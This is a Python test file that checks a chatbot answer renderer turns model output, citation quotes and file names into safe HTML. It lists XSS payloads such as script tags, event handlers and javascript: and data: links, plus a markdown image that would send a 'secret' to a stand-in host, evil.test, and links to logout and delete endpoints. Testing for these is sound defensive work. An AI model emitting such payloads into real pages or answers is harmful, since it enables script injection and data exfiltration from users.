"""Whatever a model, a document or a file name says, it stays text."""

import re
import time
from html.parser import HTMLParser

import pytest

from conversations.rendering import TAGS, render_answer
from tests.xss_corpus import PAYLOADS

CITATION = {
    "number": 1,
    "document_id": "018f3a6e-0000-7000-8000-000000000001",
    "document_name": "sky.txt",
    "chunk_id": "018f3a6e-0000-7000-8000-000000000002",
    "page": 3,
    "quote": "The sky is blue.",
    "start_char": 10,
    "end_char": 26,
}

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![pixel](https://evil.test/p.png?q=secret)",
    "![pixel][1]\n\n[1]: https://evil.test/p.png",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt&#58;alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](vbscript:msgbox)",
    "<javascript:alert(1)>",
    '[t](https://a.test "x\\" onmouseover=\\"alert(1)")',
    "<svg/onload=alert(1)>",
    "<iframe src=https://evil.test></iframe>",
    "<style>*{background:url(https://evil.test)}</style>",
    "```html\n<script>alert(1)</script>\n```",
    '`<b onclick="x">`',
    '<a class="cite" data-citation="1" href="/accounts/logout/">1</a>',
    "[inner](/chatbots/x/delete/)",
    "[scheme-relative](//evil.test/)",
    "| a |\n| --- |\n| <img src=x> |",
    "\x00<script\x00>alert(1)</script>",
]


class Tags(HTMLParser):
    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict]] = []
        self.feed(html)

    def handle_starttag(self, tag, attributes):
        self.found.append((tag, dict(attributes)))


def test_of_every_hostile_text_only_harmless_elements_are_made():
    for text in PAYLOADS:
        for tag, attributes in Tags(render_answer(text)).found:
            assert tag in TAGS, text
            assert set(attributes) <= {"href", "target", "rel", "start", "class", "data-language"}
            assert re.match(r"https?://|mailto:", attributes.get("href", "mailto:")), text


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_hostile_becomes_an_element_or_an_address(text):
    for tag, attributes in Tags(render_answer(text)).found:
        assert tag not in {"script", "img", "svg", "iframe", "style", "object", "form", "input"}
        assert not [name for name in attributes if name.startswith("on") or name == "style"]
        href = attributes.get("href")
        assert href is None or re.match(r"https?://|mailto:", href)
        assert "class" not in attributes


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_quote_or_file_name_stays_inside_its_attribute(text):
    citation = {**CITATION, "quote": text + '"><img src=x>', "document_name": text + "'\"><script>"}
    [(tag, _), (mark, attributes)] = Tags(render_answer("Blue [1].", [citation])).found
    assert (tag, mark) == ("p", "a")
    assert attributes["title"] == (text + '"><img src=x>').replace("\x00", "\ufffd")
    assert set(attributes) == {"class", "href", "data-citation", "title", "aria-label"}


def test_a_mark_links_to_the_passage():
    html = render_answer("The sky is blue [1].", [CITATION])
    assert html.startswith('<p>The sky is blue<a class="cite" href="/documents/')
    [_, (_, attributes)] = Tags(html).found
    assert attributes["href"].endswith("&start=10&end=26#passage")
    assert attributes["aria-label"] == "Source 1: sky.txt, page 3"


def test_marks_in_code_in_links_and_without_a_citation_stay_as_they_are():
    html = render_answer("`a[1]` and [see [1]](https://a.test) and [2]\n\n    b[1]", [CITATION])
    assert "cite" not in html
    assert "<code>a[1]</code>" in html
    assert "see [1]" in html
    assert "and [2]" in html


def test_a_model_cannot_redefine_a_mark():
    html = render_answer("Blue [1].\n\n[1]: https://evil.test/", [CITATION])
    assert "evil.test" not in "".join(a.get("href") or "" for _, a in Tags(html).found)


def test_links_open_apart_and_tell_nothing():
    [_, (_, attributes)] = Tags(render_answer("[a](https://a.test/?x=1&y=2)")).found
    assert attributes == {
        "href": "https://a.test/?x=1&y=2",
        "target": "_blank",
        "rel": "noopener nofollow",
    }


def test_headings_come_below_those_of_the_page():
    assert render_answer("# One\n\n#### Four") == "<h3>One</h3>\n<h6>Four</h6>\n"
    assert render_answer("### Three\n\n# One") == "<h3>Three</h3>\n<h3>One</h3>\n"


def test_a_citation_of_a_deleted_document_shows_no_quote():
    html = render_answer("Blue [1].", [CITATION], gone={CITATION["document_id"]})
    assert "The sky is blue" not in html
    assert "This document has been deleted." in html


@pytest.mark.parametrize(
    "text",
    ["$x_1 * y_1$", "$$a*b*c$$", r"\(a_i^2 * b_i^2\)", "\\[\na * b\n= c_1 * d_1\n\\]", "$<b>$"],
)
def test_maths_stay_as_they_are_written(text):
    html = render_answer(f"Sum {text}.")
    assert Tags(html).found == [("p", {}), ("span", {"class": "maths"})]
    shown = text.replace("<", "&lt;").replace(">", "&gt;")
    assert html == f'<p>Sum <span class="maths">{shown}</span>.</p>\n'


def test_prices_are_no_maths():
    assert "maths" not in render_answer("From $5 to $10, or US$ 3 and CA$ 4; \\\\( is none.")


def test_maths_without_end_take_no_time():
    started = time.process_time()
    for opening in ("$", "$$", "\\(", "\\[", "$a", "\\(\\"):
        render_answer(opening * 5_000)
    assert time.process_time() - started < 3


def test_code_names_its_language_for_its_colours():
    assert render_answer("```C++ x\na\n```") == (
        '<pre><code data-language="c++">a\n</code></pre>\n'
    )
    assert render_answer('```"onmouseover="hit()\na\n```') == "<pre><code>a\n</code></pre>\n"


def test_a_line_break_stays_one():
    assert render_answer("a\nb") == "<p>a<br>\nb</p>\n"
